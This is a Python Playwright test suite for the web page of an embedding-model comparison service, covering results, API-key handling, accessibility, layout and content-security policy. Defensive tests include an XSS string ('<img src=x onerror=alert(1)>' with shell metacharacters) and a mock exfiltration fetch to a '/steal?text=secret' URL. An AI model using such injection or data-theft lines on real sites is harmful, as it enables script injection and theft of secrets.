"""The page at `/` as people use it, in a headless Chromium over the app in this process."""

from __future__ import annotations

import asyncio
import contextlib
import io
import re
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace

import numpy as np
import orjson
import pytest
from playwright.async_api import Browser, Page, async_playwright, expect

from deployments.api.auth import ApiKeys
from deployments.core.errors import ContextLengthExceeded, ModelUnavailable
from deployments.core.models.spec import Role
from deployments.core.request import EncodeRequest
from deployments.core.vectors import normalized
from tests.api.calls import app_of
from tests.api.fake_backend import INSTRUCT, PLAIN, SPECS, FakeBackend
from tests.api.fake_backend import expected as vectors_of
from tests.api.serving import serving
from tests.support.browser import BROWSER, LOW_CONTRAST, OPTIONS, needs_browser

pytestmark = needs_browser
TEXTS = ("a cat", "a dog", "the moon")
ODD = 'it\'s "odd" \\n $HOME `x`\n<img src=x onerror=alert(1)> – 🐈'


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=BROWSER, args=list(OPTIONS))
        yield browser
        await browser.close()


@dataclass
class Opened:
    """The page, what it asked for, and which service it came from."""

    page: Page
    url: str
    backend: FakeBackend
    requests: list[str]
    problems: list[str]

    async def compare(self, *texts: str) -> None:
        """Types the texts and has them compared."""
        for i, text in enumerate(texts or TEXTS):
            await self.page.get_by_label(f"Text {i + 1}", exact=True).fill(text)
        await self.page.get_by_role("button", name="Compare").click()

    async def facts(self) -> dict[str, str]:
        """Returns what the page says about the answer."""
        await expect(self.page.get_by_role("heading", name="Answer")).to_be_visible()
        return dict(
            await self.page.eval_on_selector_all(
                "#facts dt", "terms => terms.map(t => [t.textContent, t.nextSibling.textContent])"
            )
        )

    async def scores(self) -> list[list[float]]:
        """Returns the numbers of the heat map."""
        rows = await self.page.eval_on_selector_all(
            "#similarities tbody tr",
            "rows => rows.map(row => [...row.querySelectorAll('td')].map(td => td.textContent))",
        )
        return [[float(cell.replace("−", "-")) for cell in row] for row in rows]


@asynccontextmanager
async def opened(browser, backend=None, keys=None, waits=True, **context) -> AsyncIterator[Opened]:
    """Opens the page; checks at the end that it asked nobody else and broke none of its own rules."""
    backend = backend or FakeBackend()
    with serving(app_of(backend, keys=keys)) as url:
        tab = await browser.new_context(**context)
        tab.set_default_timeout(10_000)
        page, requests, problems = await tab.new_page(), [], []
        page.on("request", lambda request: requests.append(f"{request.method} {request.url}"))
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.on("console", lambda message: problems.append(message.text))
        await page.goto(url)
        if waits:
            await expect(page.locator("#fleet li")).to_have_count(len(backend.specs))
        yield Opened(page, url, backend, requests, problems)
        await tab.close()
    assert [request for request in requests if f" {url}/" not in request] == []
    # a status above 399 is written to the console by the browser itself
    assert [p for p in problems if "Failed to load resource" not in p] == []


def cosines(spec, texts, role=Role.DOCUMENT, **fields):
    vectors = normalized(vectors_of(spec, EncodeRequest(tuple(texts), role, **fields)))
    return vectors @ vectors.T


async def test_it_says_who_answered_and_why_and_how_close_the_texts_are(browser):
    async with opened(browser) as shown:
        await shown.compare()
        facts, scores = await shown.facts(), await shown.scores()
        summary = await shown.page.locator("#summary").text_content()
        await shown.page.get_by_text("The other models").click()
        others = await shown.page.locator("#candidates li").all_text_contents()
    assert (facts["Model"], facts["Dimensions"], facts["Truncated"]) == ("plain", "8", "no text")
    assert facts["Why"].startswith("auto: ")
    assert facts["Tokens"] == str(sum(len(text.split()) + 3 for text in TEXTS))  # with the prompt
    assert np.allclose(scores, cosines(PLAIN, TEXTS), atol=0.0051)
    closest = np.triu(cosines(PLAIN, TEXTS), 1) - np.tril(np.ones((3, 3)))
    first, second = np.unravel_index(np.argmax(closest), closest.shape)
    assert f"Texts {first + 1} and {second + 1}" in summary
    assert [other.split(":")[0] for other in others] == ["instruct", "nested"]


async def test_two_texts_of_a_model_that_was_picked_as_queries(browser):
    async with opened(browser) as shown:
        await shown.page.get_by_role("button", name="Remove text 3").click()
        await expect(shown.page.get_by_role("button", name="Remove text 1")).to_be_disabled()
        await shown.page.get_by_label("Model").select_option("instruct")
        await shown.page.get_by_label("The texts are").select_option("queries")
        await shown.compare(*TEXTS[:2])
        facts, scores = await shown.facts(), await shown.scores()
    assert (facts["Model"], facts["Why"]) == ("instruct", "you named it")
    assert facts["Instruction"] == INSTRUCT.prompts.default_instruction
    assert np.allclose(scores, cosines(INSTRUCT, TEXTS[:2], Role.QUERY), atol=0.0051)


async def test_texts_that_are_too_long_are_cut_only_on_request(browser):
    long = "word " * PLAIN.max_tokens
    async with opened(browser) as shown:
        await shown.page.get_by_label("Model").select_option("plain")
        await shown.compare()
        await shown.facts()
        await shown.compare("a", long)
        await expect(shown.page.locator("#error")).to_contain_text("(context_length_exceeded)")
        await expect(shown.page.locator("#answer")).to_be_hidden()
        await shown.page.get_by_label("Cut texts that are too long").check()
        await shown.compare("a", long)
        facts = await shown.facts()
    assert facts["Truncated"].startswith("text 2:")


async def test_a_text_that_is_wrong_is_marked(browser):
    async with opened(browser) as shown:
        second = shown.page.get_by_label("Text 2", exact=True)
        await shown.compare("a", " ")
        await expect(second).to_be_focused()
        await expect(second).to_have_attribute("aria-invalid", "true")
        assert not [request for request in shown.requests if request.startswith("POST")]
        shown.backend.failing = ContextLengthExceeded("`input[1]` is too long", "input")
        await shown.compare("a", "b")
        await expect(second).to_have_attribute("aria-invalid", "true")
        shown.backend.failing = None
        await shown.compare("a", "b")
        await expect(second).to_have_attribute("aria-invalid", "false")
        await expect(shown.page.locator("#error")).to_be_hidden()


async def test_a_model_that_is_unavailable(browser):
    backend = FakeBackend(failing=ModelUnavailable("nested has no weights", "model", 1.0))
    backend.states["nested"] = "unavailable"
    async with opened(browser, backend) as shown:
        card = shown.page.locator("#fleet li", has_text="nested")
        await expect(card.locator(".state")).to_have_text("unavailable")
        await expect(card.locator(".error")).to_have_text("it is unavailable")
        await expect(shown.page.locator("#service")).to_have_text("2 of 3 models answer")
        await shown.page.get_by_label("Model").select_option("nested (unavailable)")
        await shown.compare()
        error = shown.page.get_by_role("alert").filter(has_text="nested has no weights")
        await expect(error).to_contain_text("(model_unavailable)")


async def test_a_wrong_key_and_a_right_one(browser):
    async with opened(browser, keys=ApiKeys(["secret"]), waits=False) as shown:
        field = shown.page.get_by_label("API key", exact=True)
        await expect(field).to_be_focused()
        await expect(shown.page.locator("#fleet li")).to_have_count(0)
        await field.fill("wrong")
        await shown.page.get_by_role("button", name="Use the key").click()
        await expect(shown.page.get_by_text("does not know this key")).to_be_visible()
        await field.fill("secret")
        await field.press("Enter")
        await expect(shown.page.locator("#fleet li")).to_have_count(3)
        await expect(field).to_be_hidden()
        await shown.compare()
        assert (await shown.facts())["Model"] == "plain"
        assert "secret" not in await shown.page.locator("#snippet").text_content()

        await shown.page.reload()  # the tab keeps the key, and nothing else does
        await expect(shown.page.locator("#fleet li")).to_have_count(3)
        kept = await shown.page.evaluate("[localStorage.length, document.cookie]")
        assert kept == [0, ""]
        await shown.page.get_by_role("button", name="Forget the key").click()
        await expect(field).to_be_focused()
        assert await shown.page.evaluate("sessionStorage.length") == 0
    assert not [request for request in shown.requests if "secret" in request]


async def test_a_key_that_is_withdrawn_is_asked_for_again(browser):
    keys = ApiKeys(["secret"])
    async with opened(browser, keys=keys, waits=False) as shown:
        field = shown.page.get_by_label("API key", exact=True)
        await field.fill("secret")
        await field.press("Enter")
        await expect(shown.page.locator("#fleet li")).to_have_count(3)
        keys._nameless.clear()
        keys.use({b"another": None})
        await shown.compare()
        await expect(field).to_be_focused()
        await expect(shown.page.get_by_text("does not know this key")).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_each_text_can_be_read_in_light_and_dark(browser, scheme):
    backend = FakeBackend()
    backend.states |= {"nested": "unavailable", "instruct": "cold"}
    async with opened(browser, backend, color_scheme=scheme) as shown:
        await shown.page.get_by_role("button", name="Add a text").click()
        await shown.compare(*TEXTS, "and the sun")
        await shown.facts()
        await shown.page.get_by_text("The other models").click()
        background = await shown.page.evaluate("getComputedStyle(document.body).backgroundColor")
        contrast = await shown.page.evaluate(LOW_CONTRAST)
    brightness = sum(map(int, background[4:-1].split(",")))
    assert (brightness > 600) if scheme == "light" else (brightness < 120)
    assert contrast["checked"] > 50
    assert contrast["low"] == []


async def test_no_text_is_hidden_at_320_pixels(browser):
    name = "a_name_that_breaks_nowhere_" * 4
    specs = {**SPECS, name: replace(PLAIN, name=name)}
    async with opened(
        browser, FakeBackend(specs=specs), viewport={"width": 320, "height": 640}
    ) as shown:
        for _ in range(3):
            await shown.page.get_by_role("button", name="Add a text").click()
        await shown.page.get_by_label("Cut texts that are too long").check()
        await shown.compare(*TEXTS, "x" * 500, "<" * 9, "last")
        await shown.facts()
        width = await shown.page.evaluate("document.documentElement.scrollWidth")
        cut = await shown.page.evaluate(
            "[...document.querySelectorAll('h1,h2,h3,p,dd,label,button,summary,li')]"
            ".filter(e => e.checkVisibility() && e.getBoundingClientRect().right > 320)"
            ".map(e => e.textContent)"
        )
    assert width == 320
    assert cut == []


async def test_a_keyboard_is_enough(browser):
    async with opened(browser) as shown:
        keyboard, reached = shown.page.keyboard, []

        async def tab_to(test: str) -> None:
            for _ in range(30):
                await keyboard.press("Tab")
                reached.append(await shown.page.evaluate("document.activeElement.outerHTML"))
                if await shown.page.evaluate(f"document.activeElement.matches({test!r})"):
                    return
            raise AssertionError(f"{test} is not reached")

        await tab_to(".skip")
        await keyboard.press("Enter")
        await tab_to("#text-1")
        await keyboard.press("ControlOrMeta+a")
        await keyboard.type("typed")
        outline = "getComputedStyle(document.activeElement).outlineStyle"
        assert await shown.page.evaluate(outline) == "solid"
        await keyboard.press("Control+Enter")
        assert (await shown.facts())["Model"] == "plain"
        assert shown.backend.calls[-1][1].texts[0] == "typed"
        await tab_to("#submit")
        await keyboard.press("Enter")
        await tab_to("[type=radio]")
        await keyboard.press("ArrowRight")
        await expect(shown.page.locator("#snippet")).to_contain_text("from openai import")
        await tab_to("#copy")
    assert not [element for element in reached if element.startswith("<body")]


async def test_everything_has_a_name_for_screen_readers(browser):
    async with opened(browser, keys=ApiKeys(["secret"]), waits=False) as shown:
        await shown.page.get_by_label("API key", exact=True).fill("secret")
        await shown.page.keyboard.press("Enter")
        await shown.compare()
        await shown.facts()
        tree = await shown.page.locator("body").aria_snapshot()
    assert 'table "Cosine of each text with each other one' in tree
    assert 'rowheader "1 a cat"' in tree
    controls = ("button", "textbox", "combobox", "checkbox", "radio", "link", "region", "img")
    lines = [line.strip().removeprefix("- ") for line in tree.splitlines()]
    nameless = [line for line in lines if line.split(":")[0] in controls]
    assert nameless == []
    assert sum(line.startswith("textbox") for line in lines) == 3


async def test_what_is_typed_never_becomes_markup(browser):
    async with opened(browser) as shown:
        await shown.page.get_by_label("Model").select_option("instruct")
        await shown.compare(ODD)
        await shown.facts()
        head = shown.page.locator("#similarities th[scope=row]").first
        assert ODD in await head.text_content()
        assert await shown.page.locator("#answer img, #answer script").count() == 0


async def test_the_browser_lets_the_page_call_nobody_else(browser):
    async with opened(browser) as shown:
        blocked = await shown.page.evaluate(
            """async () => {
              const events = [];
              addEventListener("securitypolicyviolation", (e) => events.push(e.effectiveDirective));
              await fetch("http://127.0.0.1:9/steal?text=secret").catch(() => {});
              document.body.append(Object.assign(new Image(), { src: "http://127.0.0.1:9/x" }));
              try { document.body.innerHTML += ""; } catch {}
              await new Promise((done) => setTimeout(done, 100));
              return events;
            }"""
        )
        assert set(blocked) == {"connect-src", "img-src", "require-trusted-types-for"}
        assert len(shown.problems) >= len(blocked)
        shown.problems.clear()
        shown.requests[:] = [request for request in shown.requests if ":9/" not in request]


RUNS = {
    "curl": "",
    "Python, openai": "vectors",
    "Python, embedfleet": "answer.vectors",
    "Python, LangChain": "vectors",
}


@pytest.mark.parametrize("key", ["", "secret"])
async def test_the_code_gives_the_same_vectors(browser, monkeypatch, key):
    keys = ApiKeys([key]) if key else None
    monkeypatch.setenv("EMBEDFLEET_API_KEY", key)
    role = Role.QUERY
    wanted = vectors_of(INSTRUCT, EncodeRequest((ODD, *TEXTS[1:]), role, truncate=True))
    async with opened(browser, keys=keys, waits=not key) as shown:
        if key:
            await shown.page.get_by_label("API key", exact=True).fill(key)
            await shown.page.keyboard.press("Enter")
            await expect(shown.page.locator("#fleet li")).to_have_count(3)
        await shown.page.get_by_label("Model").select_option("instruct")
        await shown.page.get_by_label("The texts are").select_option("queries")
        await shown.page.get_by_label("Cut texts that are too long").check()
        await shown.compare(ODD, *TEXTS[1:])
        for name, result in RUNS.items():
            await shown.page.get_by_role("radio", name=name).check()
            code = await shown.page.locator("#snippet").text_content()
            shown.backend.calls.clear()
            vectors = await asyncio.to_thread(run, code, result)
            assert np.allclose(vectors, wanted, atol=1e-6), name
            [(model, request, _)] = shown.backend.calls
            assert (model, request.truncate) == ("instruct", True), name


def run(code, result):
    if not result:
        answer = subprocess.run(["bash", "-c", code], capture_output=True, check=True, timeout=30)
        return [item["embedding"] for item in orjson.loads(answer.stdout)["data"]]
    names: dict[str, object] = {}
    with contextlib.redirect_stdout(io.StringIO()):
        exec(code, names)
    return eval(result, names)


async def test_the_code_is_copied(browser):
    permissions = ["clipboard-read", "clipboard-write"]
    async with opened(browser, permissions=permissions) as shown:
        await shown.page.get_by_role("button", name="Copy").click()
        await expect(shown.page.locator("#copied")).to_have_text("Copied")
        copied = await shown.page.evaluate("navigator.clipboard.readText()")
        assert copied == await shown.page.locator("#snippet").text_content()
    assert copied.startswith("curl ")


class Counting(FakeBackend):
    """Counts 500 tokens of one model, in two replicas, for each time that it is asked."""

    asked = 0

    async def metrics(self) -> str:
        self.asked += 1
        return (
            "# TYPE embedfleet_tokens_total counter\n"
            f'embedfleet_tokens_total{{WorkerId="a",model="plain"}} {300 * self.asked}.0\n'
            f'embedfleet_tokens_total{{model="plain",WorkerId="b"}} {200 * self.asked}.0\n'
            'embedfleet_tokens_total{WorkerId="c",model="nested"} 7.0\n'
        )


async def test_the_fleet_is_live(browser):
    backend = Counting()
    async with opened(browser, backend) as shown:
        page, card = shown.page, shown.page.locator("#fleet li", has_text="plain")
        await expect(card.locator("dd")).to_have_text(["1", "0", "–"])
        await page.clock.install()
        await page.reload()
        await expect(card).to_be_visible()
        for _ in range(10):
            if backend.asked >= 4:
                break
            await page.clock.run_for(5_000)
            await asyncio.sleep(0.1)
        await expect(card.locator("dd")).to_have_text(["1", "0", re.compile("^(4[0-9]|50)$")])
        await expect(card.locator("svg")).to_have_count(1)
        nested = page.locator("#fleet li", has_text="nested").locator("dd")
        await expect(nested.last).to_have_text("0")
        backend.states["plain"] = "starting"
        await page.clock.run_for(2_500)
        await expect(card.locator(".state")).to_have_text("starting, small")


async def test_a_service_that_is_gone_is_said_to_be_gone(browser):
    async with opened(browser) as shown:
        await shown.page.route("**/v1/**", lambda route: route.abort())
        await expect(shown.page.locator("#fleet-problem")).to_contain_text("cannot be reached")
        await shown.compare()
        await expect(shown.page.locator("#error")).to_contain_text("cannot be reached")
        await shown.page.unroute_all()
        await expect(shown.page.locator("#fleet-problem")).to_be_hidden()
        await expect(shown.page.locator("#service")).to_have_text("3 of 3 models answer")
